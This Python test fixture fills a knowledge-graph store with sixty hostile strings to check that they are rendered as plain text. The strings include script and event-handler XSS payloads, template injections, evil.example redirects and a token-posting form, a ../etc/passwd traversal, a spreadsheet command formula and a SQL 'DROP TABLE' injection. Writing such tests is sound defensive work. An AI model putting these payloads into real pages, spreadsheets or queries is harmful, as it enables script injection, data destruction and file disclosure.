"""Sixty texts that would do something if they were anything but text, and a graph that is full of them."""

from __future__ import annotations

from typing import TYPE_CHECKING

from kg.model import (
    Actor,
    ActorKind,
    Article,
    EventMention,
    Extraction,
    Mention,
    Office,
    Party,
    Place,
    Status,
    Tenure,
)
from kg.ontology.grounding import article_quads, registry_quads

if TYPE_CHECKING:
    from kg.store import Store

MARK = "kgpwned"  # what any of them would set on the page's window

HOSTILE = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f'"><img src=x onerror=window.{MARK}=1>',
    f"'><svg onload=window.{MARK}=1>",
    f"<svg><script>window.{MARK}=1</script></svg>",
    f"<body onload=window.{MARK}=1>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<a href=\"javascript:window.{MARK}=1\">x</a>",
    f"javascript:window.{MARK}=1",
    f"JaVaScRiPt:window.{MARK}=1",
    f"data:text/html,<script>window.{MARK}=1</script>",
    f"vbscript:window.{MARK}=1",
    f"\" onmouseover=\"window.{MARK}=1",
    f"' onfocus='window.{MARK}=1' autofocus='",
    f"`-window.{MARK}=1-`",
    f"${{window.{MARK}=1}}",
    f"{{{{window.{MARK}=1}}}}",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# comment #}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "<!-- comment -->",
    "--><script>1</script><!--",
    "<![CDATA[ x ]]>",
    "]]><script>1</script>",
    "<?xml version='1.0'?>",
    "<style>*{display:none}</style>",
    "</style></title></textarea></select>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=token>",
    "<object data=https://evil.example/></object>",
    "<img src=https://evil.example/x.png>",
    "https://evil.example/<script>",
    "//evil.example/x",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "\u003cscript\u003e",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\u202eevil\u202c",
    "\u2066isolated\u2069",
    "\u200fright to left",
    "zero\u200bwidth\ufeff",
    "tab\tand\nline\r\nbreaks\u2028and\u2029more",
    "bell\x07 and escape \x1b[31mred",
    "\ud83d\ude80".encode("utf-16", "surrogatepass").decode("utf-16") + " rocket",
    "مصر والسودان",
    "日本とフィリピン",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "=cmd|'/c calc'!A1",
    "Robert'); DROP TABLE articles;--",
    "a" * 5_000,
    "} ; DROP ALL ; {",
)  # fmt: skip


def fill(store: Store) -> None:
    """An article, a person, a place and an office for each text, with the text in every field that holds one."""
    states = {
        code: Actor(id=code, name=f"State {code}", kind=ActorKind.STATE, country=code)
        for code in ("AAA", "BBB")
    }
    store.register(registry_quads([
        *states.values(),
        *(Actor(id=f"ORG{n}", name=text, kind=ActorKind.ORGANIZATION, country=f"ORG{n}", aliases=(text,)) for n, text in enumerate(HOSTILE)),
    ], store.base))  # fmt: skip
    for number, text in enumerate(HOSTILE):
        extraction = _extraction(number, text, states)
        quads = article_quads(extraction, store.base, {*states, *(f"ORG{n}" for n in range(len(HOSTILE)))})
        store.replace(extraction.article.id, quads, extraction.article.content_hash)
    store.refresh()


def _extraction(number: int, text: str, states: dict[str, Actor]) -> Extraction:
    person = Actor(id=f"AAA/{text}", name=text, kind=ActorKind.PERSON, country="AAA", role="GOV")
    organisation = Actor(id=f"ORG{number}", name=text, kind=ActorKind.ORGANIZATION, country=f"ORG{number}")
    sentence = f"{text} met {text}."
    article = Article(
        id=f"{text}-{number}",
        text=sentence,
        title=text,
        publisher=text,
        url=text if number % 2 else f"https://evil.example/{text}",
        published="2024-05-03",
        language="en",
    )
    trigger = Mention(article=article.id, start=len(text) + 1, end=len(text) + 4, text="met")
    mention = EventMention(
        trigger=trigger,
        sentence=(0, len(sentence)),
        type="Meeting",
        root="Consultation",
        source=(Party(actor=person, start=0, end=len(text)),),
        target=(Party(actor=organisation, start=0, end=len(text)),),
        reciprocal=True,
        status=Status.OCCURRED,
        speaker=Party(actor=person, start=0, end=len(text)),
        date="2024-05-03",
        place=Place(name=text, country="BBB"),
        context=(text,),
        confidence=0.5,
        extractor=text,
    )
    office = Office(id=f"AAA/office-{number}", name=text, country="AAA", role="GOV")
    tenure = Tenure(person=person.id, person_name=text, office=office, seen="2024-05-03")
    return Extraction(article=article, mentions=(mention,), tenures=(tenure,))
